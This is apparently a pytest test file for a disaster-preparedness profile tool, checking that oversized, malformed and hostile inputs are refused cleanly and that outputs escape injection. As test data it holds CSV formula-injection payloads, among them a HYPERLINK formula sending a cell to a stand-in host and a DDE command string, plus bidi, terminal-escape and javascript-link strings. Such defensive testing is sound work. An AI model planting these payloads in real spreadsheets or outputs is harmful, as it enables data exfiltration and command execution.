"""Issue 27: hostile inputs end in a located refusal, never a foreign exception; one broken
file never stops a batch."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import stat
import threading
import warnings
from pathlib import Path

import pytest
import yaml

import disaster_protocol as dp
from disaster_protocol import _assess as assess_module
from disaster_protocol import portfolio as portfolio_module
from disaster_protocol._output import CellWriter
from disaster_protocol.cli import ExitCode, main
from disaster_protocol.cli import many as many_module
from disaster_protocol.errors import show_value

from .conftest import DATA

HUGE = "0x" + "f" * 3600  # YAML reads it as an integer of 14,400 bits
HEAD = "schema_version: 1\ninstitution: {id: x, name: X, country: PE}\nassessed_on: 2026-01-01\n"
GOOD = HEAD + "actions: {GOV-01: 2}\n"


def run(*argv: str, stdin: str = "") -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), stdout=out, stderr=err, stdin=io.StringIO(stdin))
    return code, out.getvalue(), err.getvalue()


class RaisingRepr:
    def __repr__(self) -> str:
        raise RuntimeError("repr fails")

    __str__ = __repr__


def test_show_value_bounds_huge_integers_lists_text_and_failing_reprs() -> None:
    assert show_value(int("f" * 3600, 16)) == "0xffffffff...ffff (14,400-bit integer)"
    assert show_value(-int("f" * 3600, 16)).startswith("-0xffffffff...")
    assert show_value(list(range(90_000))) == "[0, 1, 2, 3, ...]"
    assert show_value(RaisingRepr()) == "<RaisingRepr>"
    assert show_value([RaisingRepr()]) == "[<RaisingRepr>]"
    assert len(show_value("x" * 10_000)) <= 60
    assert show_value(12) == "12"
    assert show_value("GOV-01") == "'GOV-01'"


@pytest.mark.parametrize(("text", "code", "where"), [
    (HEAD + f"actions: {{GOV-01: {HUGE}}}\n", "invalid-level", ":4:19: actions.GOV-01.level"),
    (HEAD + f"cooperation: {{capacity: {HUGE}}}\nactions: {{GOV-01: 2}}\n", "invalid-value",
     ":4:25: cooperation.capacity"),
    (GOOD.replace("name: X", f"name: {HUGE}"), "wrong-type", ":2:28: institution.name"),
    (f"schema_version: {HUGE}\n", "unsupported-schema-version", ":1:17: schema_version"),
    (f"schema_version: -{HUGE}\n", "unsupported-schema-version", ":1:17: schema_version"),
])
def test_huge_hexadecimal_numbers_are_refused_with_a_located_bounded_message(
        tmp_path: Path, text: str, code: str, where: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_text(text, encoding="utf-8")
    status, _, err = run("check", str(path))
    assert status == ExitCode.BAD_INPUT
    assert err.startswith(f"{path}{where}: ")
    assert err.rstrip().endswith(f"[{code}]")
    assert "14,400-bit integer" in err
    assert len(err) < 400


def test_huge_paragraph_in_a_protocol_is_refused_located(tmp_path: Path) -> None:
    text = (DATA / "minimal.yaml").read_text(encoding="utf-8")
    path = tmp_path / "protocol.yaml"
    path.write_text(text.replace("paragraph: 24\n", f"paragraph: {HUGE}\n", 1), encoding="utf-8")
    with pytest.raises(dp.ProtocolError) as caught:
        dp.load_protocol(path)
    assert caught.value.codes == ("invalid-value",)
    assert caught.value.problems[0].path == "sendai.priorities[P1].paragraph"


@pytest.mark.parametrize("where", ["name", "level", "schema_version", "evidence"])
def test_a_value_whose_repr_raises_is_refused_from_a_dict(bundled: dp.Protocol,
                                                          where: str) -> None:
    data: dict[str, object] = {
        "schema_version": RaisingRepr() if where == "schema_version" else 1,
        "institution": {"id": "x", "name": RaisingRepr() if where == "name" else "X",
                        "country": "PE"},
        "assessed_on": "2026-01-01",
        "actions": {"GOV-01": {"level": RaisingRepr() if where == "level" else 2,
                               "evidence": [RaisingRepr()] if where == "evidence" else []}}}
    with pytest.raises(dp.ProfileError) as caught:
        dp.profile_from_dict(data, bundled)
    assert "<RaisingRepr>" in str(caught.value)


def test_invalid_level_given_as_a_huge_list_is_echoed_bounded(bundled: dp.Protocol) -> None:
    text = HEAD + "actions:\n  GOV-01: [" + ", ".join(["1"] * 90_000) + "]\n"
    with pytest.raises(dp.ProfileError) as caught:
        dp.loads_profile(text, bundled)
    assert caught.value.codes == ("invalid-level",)
    assert len(str(caught.value)) < 300


def test_batch_with_a_hostile_file_scores_the_others(tmp_path: Path) -> None:
    folder = tmp_path / "d"
    folder.mkdir()
    (folder / "a_good.yaml").write_text(GOOD, encoding="utf-8")
    (folder / "b_huge.yaml").write_text(HEAD + f"actions: {{GOV-01: {HUGE}}}\n",
                                        encoding="utf-8")
    (folder / "c_good.yaml").write_text(GOOD.replace("id: x", "id: y"), encoding="utf-8")
    out_file = tmp_path / "out.csv"
    status, _, err = run("batch", str(folder), "-o", str(out_file))
    assert status == ExitCode.BAD_INPUT
    rows = out_file.read_text(encoding="utf-8").splitlines()
    assert [r.split(",")[0] for r in rows[1:3]] == ["x", "y"]
    assert f"{folder / 'b_huge.yaml'}:4:19: actions.GOV-01.level" in err
    assert "1 de 3 perfiles no se pudieron leer" in err


_ASSESS = assess_module.assess  # the real one, before a test puts the exploding one in its place


def _explode_for_y(protocol: dp.Protocol, profile: dp.Profile, **options: object
                   ) -> dp.Assessment:
    if profile.institution.id == "y":
        raise ZeroDivisionError("a bug")
    return _ASSESS(protocol, profile, **options)  # type: ignore[arg-type]


@pytest.mark.parametrize("command", ["batch", "cooperate"])
def test_an_unexpected_error_in_one_file_is_reported_against_it_and_the_others_scored(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str) -> None:
    monkeypatch.setattr(assess_module, "assess", _explode_for_y)  # a batch too small for arrays
    monkeypatch.setattr(portfolio_module, "assess", _explode_for_y)  # each file alone
    monkeypatch.setattr(many_module, "assess", _explode_for_y)  # --debug scores it again
    for ident in "xyz":
        (tmp_path / f"{ident}.yaml").write_text(GOOD.replace("id: x", f"id: {ident}"),
                                                encoding="utf-8")
    status, out, err = run(command, str(tmp_path), "--format", "json")
    assert status == ExitCode.BAD_INPUT
    assert (f"{tmp_path / 'y.yaml'}: internal error (ZeroDivisionError: a bug); this is a bug "
            "in disaster-protocol") in err
    assert "--debug shows the traceback" in err
    assert "[internal-error]" in err
    assert '"x"' in out
    assert '"z"' in out
    with pytest.raises(ZeroDivisionError):
        main([command, str(tmp_path), "--debug"], stdout=io.StringIO(), stderr=io.StringIO())


def test_assess_many_turns_an_unexpected_error_into_a_failure(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, bundled: dp.Protocol) -> None:
    monkeypatch.setattr(assess_module, "assess", _explode_for_y)
    monkeypatch.setattr(portfolio_module, "assess", _explode_for_y)
    for ident in "xy":
        (tmp_path / f"{ident}.yaml").write_text(GOOD.replace("id: x", f"id: {ident}"),
                                                encoding="utf-8")
    result = dp.assess_many(bundled, [tmp_path])
    assert [s.institution.id for s in result.summaries] == ["x"]
    assert [f.source for f in result.failures] == [str(tmp_path / "y.yaml")]
    assert result.failures[0].problems[0].code == "internal-error"


# ----------------------------------------------------------------------------- outputs

HOSTILE = ['=HYPERLINK("http://x/?d="&A1,"Click")', "=1+1", "@SUM(1+1)", "+1-2",
           "-cmd|' /C calc'!A0", "\tTab", "Caja \u202eLSX.exe", "a\x1b[31mb\x07c\rd\x85e"]
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _hostile_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "=1+1"
    folder.mkdir()
    for i, name in enumerate(HOSTILE):
        country = "=2+2" if i % 2 else "@A1"
        data = {"schema_version": 1,
                "institution": {"id": f"i{i}", "name": name, "country": country,
                                "subregion": "=S"},
                "assessed_on": "2026-01-01", "actions": {"GOV-01": 4 - i % 5}}
        (folder / f"p{i}.yaml").write_text(yaml.safe_dump(data, allow_unicode=True),
                                          encoding="utf-8")
    (folder / "zz_broken.yaml").write_text("schema_version: 1\n=x: [", encoding="utf-8")
    return folder


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


@pytest.mark.parametrize("extra", [[], ["--by", "country", "--suppress-under", "1"],
                                   ["--by", "subregion", "--suppress-under", "1"]])
def test_no_batch_csv_cell_starts_a_formula_or_holds_a_raw_control(
        tmp_path: Path, extra: list[str]) -> None:
    folder = _hostile_folder(tmp_path)
    status, out, _ = run("batch", str(folder), "--format", "csv", *extra)
    assert status == ExitCode.BAD_INPUT  # the broken file, after the others
    assert not RAW.search(out)
    cells = _cells(out)
    assert cells
    for value in cells:
        assert not value.startswith(("=", "+", "@", "\t", "\r")), value
        assert not value.startswith("-") or re.fullmatch(r"-[\d.]+", value), value
    if not extra:
        assert "'=1+1" in cells
        assert "'@SUM(1+1)" in cells
        assert "'-cmd|' /C calc'!A0" in cells
        assert "Caja \\u202eLSX.exe" in cells
        assert "a\\x1b[31mb\\x07c\\x0dd\\x85e" in cells
        assert f"{tmp_path}/=1+1/p0.yaml" in cells
        assert len(list(csv.reader(io.StringIO(out)))) == len(HOSTILE) + 2


def test_every_csv_renderer_goes_through_the_cell_writer(bundled: dp.Protocol,
                                                         tmp_path: Path) -> None:
    folder = _hostile_folder(tmp_path)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", dp.InputWarning)
        portfolio = dp.assess_many(bundled, [folder], keep_assessments=True)
    assert len(portfolio.summaries) == len(HOSTILE)
    first = portfolio.assessments[0]
    texts = [portfolio.to_csv(), portfolio.summary("country", k=1).to_csv(),
             first.to_csv(), dp.cooperation.match(portfolio).to_csv(),
             dp.compare(first, first).to_csv()]
    for text in texts:
        assert not RAW.search(text)
        for value in _cells(text):
            assert not value.startswith(("=", "+", "@", "\t")), value


def test_numbers_stay_numbers_in_csv() -> None:
    buffer = io.StringIO()
    CellWriter(buffer).writerow([-3, -0.5, "-3", "-2.5", "-x", 7])
    assert buffer.getvalue() == "-3,-0.5,-3,-2.5,'-x,7\n"


def test_frames_for_export_neutralise_text_columns(bundled: dp.Protocol,
                                                   tmp_path: Path) -> None:
    pytest.importorskip("pandas")
    from disaster_protocol.frames import for_spreadsheet

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", dp.InputWarning)
        portfolio = dp.assess_many(bundled, [_hostile_folder(tmp_path)])
    frame = for_spreadsheet(portfolio.to_frame())
    names = list(frame["name"])
    assert "'=1+1" in names
    assert "Caja \\u202eLSX.exe" in names
    assert frame["score"].dtype.kind == "f"


@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
def test_no_raw_control_or_bidi_character_in_any_batch_output(tmp_path: Path,
                                                             fmt: str) -> None:
    status, out, _ = run("batch", str(_hostile_folder(tmp_path)), "--format", fmt)
    assert status == ExitCode.BAD_INPUT
    assert not RAW.search(out)
    if fmt == "json":
        names = [s["institution"]["name"] for s in json.loads(out)["summaries"]]
        assert "Caja \u202eLSX.exe" in names  # escaped in the text, the same value read back


@pytest.mark.parametrize("fmt", ["text", "md", "html", "json", "csv"])
def test_check_outputs_escape_controls_bidi_and_markdown_links(tmp_path: Path,
                                                               fmt: str) -> None:
    path = tmp_path / "p.yaml"
    name = "[x](javascript:alert(1)) ![i](http://e.example/t.png) \u202eLSX\x1b]0;t\x07"
    path.write_text(yaml.safe_dump({
        "schema_version": 1, "institution": {"id": "x", "name": name, "country": "PE"},
        "assessed_on": "2026-01-01", "actions": {"GOV-01": 2}}, allow_unicode=True),
        encoding="utf-8")
    status, out, _ = run("check", str(path), "--format", fmt)
    assert status == ExitCode.OK
    assert not RAW.search(out)
    if fmt == "md":
        assert not re.search(r"(?<!\\)\]\(", out)  # no unescaped "](": no link, no image
        assert "\\[x\\](javascript:alert(1))" in out
    if fmt == "html":
        title = re.search("<title>(.*)</title>", out)
        assert title is not None
        assert "\\u202eLSX\\x1b]0;t\\x07" in title.group(1)


# ----------------------------------------------------------------------------- -o targets

def test_output_to_dev_null_leaves_the_device_a_device(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(GOOD, encoding="utf-8")
    status, out, err = run("check", str(tmp_path / "p.yaml"), "-o", os.devnull)
    assert (status, out, err) == (ExitCode.OK, "", "")
    assert stat.S_ISCHR(os.stat(os.devnull).st_mode)


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="no /dev/full here")
def test_output_to_a_full_device_is_refused_with_exit_2(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(GOOD, encoding="utf-8")
    status, _, err = run("check", str(tmp_path / "p.yaml"), "-o", "/dev/full")
    assert status == ExitCode.BAD_INPUT
    assert err.startswith("disaster-protocol check: error: /dev/full: ")
    assert stat.S_ISCHR(os.stat("/dev/full").st_mode)


def test_output_through_a_symlink_writes_its_target_and_keeps_the_link(tmp_path: Path) -> None:
    (tmp_path / "p.yaml").write_text(GOOD, encoding="utf-8")
    link, real = tmp_path / "link.json", tmp_path / "real.json"
    link.symlink_to(real.name)  # dangling at first: the target is created
    for _ in range(2):  # then replaced
        status, _, _ = run("check", str(tmp_path / "p.yaml"), "--format", "json", "-o",
                           str(link))
        assert status == ExitCode.OK
        assert link.is_symlink()
        assert json.loads(real.read_text(encoding="utf-8"))["institution"]["id"] == "x"


def test_output_into_a_symlink_loop_is_refused(tmp_path: Path) -> None:
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    (tmp_path / "p.yaml").write_text(GOOD, encoding="utf-8")
    status, _, err = run("check", str(tmp_path / "p.yaml"), "-o", str(tmp_path / "a"))
    assert status == ExitCode.BAD_INPUT
    assert "symbolic links" in err


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_is_written_into_not_replaced(tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    got: list[bytes] = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
    reader.start()
    main(["schema", "profile", "-o", str(fifo)], stdout=io.StringIO(), stderr=io.StringIO())
    reader.join(10)
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert json.loads(got[0])["title"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_a_fifo_given_as_input_is_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "p.yaml"
    os.mkfifo(fifo)
    status, _, err = run("check", str(fifo), "--lang", "en")
    assert status == ExitCode.BAD_INPUT
    assert err == (f"{fifo}: is not a regular file (a FIFO, device or socket); give a file, "
                   "or - to read standard input [unreadable-file]\n")
    status, _, _ = run("check", "-", stdin=GOOD)  # standard input still works
    assert status == ExitCode.OK


def test_a_csv_header_of_99000_unknown_columns_is_capped(bundled: dp.Protocol) -> None:
    header = "action_id,level," + ",".join(f"junk{i}" for i in range(99_000))
    with pytest.raises(dp.ProfileError) as caught:
        dp.loads_profile(header + "\nGOV-01,2\n", bundled, format="csv",
                         sidecar=HEAD)
    problems = caught.value.problems
    assert len(problems) == 101
    assert problems[-1].message == ("and 98,900 more header cells that are not columns or "
                                    "are given twice")


# ----------------------------------------------------------------------------- nothing silent

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_batch_reports_what_a_folder_holds_that_is_not_a_readable_profile(
        tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(GOOD, encoding="utf-8")
    (tmp_path / "dangling.yaml").symlink_to("nowhere.yaml")
    (tmp_path / "loop1.yaml").symlink_to("loop2.yaml")
    (tmp_path / "loop2.yaml").symlink_to("loop1.yaml")
    (tmp_path / "dir.yaml").mkdir()
    os.mkfifo(tmp_path / "fifo.yaml")
    status, out, err = run("batch", str(tmp_path), "--format", "json", "--lang", "en")
    assert status == ExitCode.BAD_INPUT
    assert [s["institution"]["id"] for s in json.loads(out)["summaries"]] == ["x"]
    for name, said in [("dangling.yaml", "file not found"), ("dir.yaml", "is a directory"),
                       ("fifo.yaml", "is not a regular file"),
                       ("loop1.yaml", "symbolic links"), ("loop2.yaml", "symbolic links")]:
        assert re.search(rf"^{re.escape(str(tmp_path / name))}: .*{said}.*\[unreadable-file\]$",
                         err, re.M), name
    assert "5 of 6 profiles could not be read" in err


def test_two_profiles_of_one_institution_and_date_are_reported(tmp_path: Path) -> None:
    for name in ("a.yaml", "b.yaml"):
        (tmp_path / name).write_text(GOOD, encoding="utf-8")
    status, out, err = run("batch", str(tmp_path), "--format", "json")
    assert status == ExitCode.BAD_INPUT
    assert [s["source"] for s in json.loads(out)["summaries"]] == [str(tmp_path / "a.yaml")]
    assert (f"{tmp_path / 'b.yaml'}: assessed_on: institution 'x' is also assessed on "
            f"2026-01-01 in {tmp_path / 'a.yaml'}; keep one profile per institution and date "
            "[duplicate-id]") in run("batch", str(tmp_path), "--lang", "en")[2]
    assert (f"{tmp_path / 'b.yaml'}: assessed_on: la institución 'x' también se evalúa el "
            f"2026-01-01 en {tmp_path / 'a.yaml'}; deje un perfil por institución y fecha "
            "[duplicate-id]") in err  # the default language


def test_a_folder_or_file_given_twice_is_counted_once(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(GOOD, encoding="utf-8")
    status, out, err = run("batch", str(tmp_path), str(tmp_path),
                           str(tmp_path / "a.yaml"), "--format", "json")
    assert (status, err) == (ExitCode.OK, "")
    assert len(json.loads(out)["summaries"]) == 1


# ----------------------------------------------------------------------------- messages

GOOD_JSON = json.dumps({"schema_version": 1, "assessed_on": "2026-01-01",
                        "institution": {"id": "x", "name": "X", "country": "PE"},
                        "actions": {"GOV-01": 2}})


def test_json_with_a_byte_order_mark_is_read_from_stdin_as_from_a_file(tmp_path: Path) -> None:
    (tmp_path / "p.json").write_text("\ufeff" + GOOD_JSON, encoding="utf-8")
    from_file = run("check", str(tmp_path / "p.json"), "--format", "json")
    from_stdin = run("check", "-", "--input-format", "json", "--format", "json",
                     stdin="\ufeff" + GOOD_JSON)
    assert from_file[0] == from_stdin[0] == ExitCode.OK
    assert from_file[1] == from_stdin[1]


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be"])
def test_utf16_files_are_told_to_be_saved_as_utf8(tmp_path: Path, encoding: str) -> None:
    path = tmp_path / "p.yaml"
    path.write_bytes(GOOD.encode(encoding))
    status, _, err = run("check", str(path), "--lang", "en")
    assert status == ExitCode.BAD_INPUT
    assert err == f"{path}: is UTF-16 text; save the file as UTF-8 [not-text]\n"


def test_merge_keys_get_their_own_message(bundled: dp.Protocol) -> None:
    text = HEAD.replace("institution: {id: x, name: X, country: PE}",
                        "base: &b {id: x}\ninstitution:\n  <<: *b\n  name: X")
    with pytest.raises(dp.ProfileError) as caught:
        dp.loads_profile(text + "actions: {GOV-01: 2}\n", bundled)
    assert [str(p) for p in caught.value.problems] == [
        "<string>:4:3: merge keys (<<) are not supported; write the keys out [unsafe-tag]"]


def test_json_deeper_than_64_levels_is_refused_where_the_limit_is_met(
        bundled: dp.Protocol) -> None:
    text = '{"schema_version": 1, "x": ' + "[" * 70 + "]" * 70 + "}"
    with pytest.raises(dp.ProfileError) as caught:
        dp.loads_profile(text, bundled, format="json")
    (problem,) = caught.value.problems
    assert (problem.code, problem.line, problem.column) == ("too-deep", 1, 92)


def test_with_as_of_given_profiles_of_other_dates_are_not_twins(tmp_path: Path) -> None:
    (tmp_path / "a.yaml").write_text(GOOD, encoding="utf-8")
    (tmp_path / "b.yaml").write_text(GOOD.replace("2026-01-01", "2025-01-01"), encoding="utf-8")
    status, _, err = run("batch", str(tmp_path), "--as-of", "2026-06-01")
    assert (status, err) == (ExitCode.OK, "")
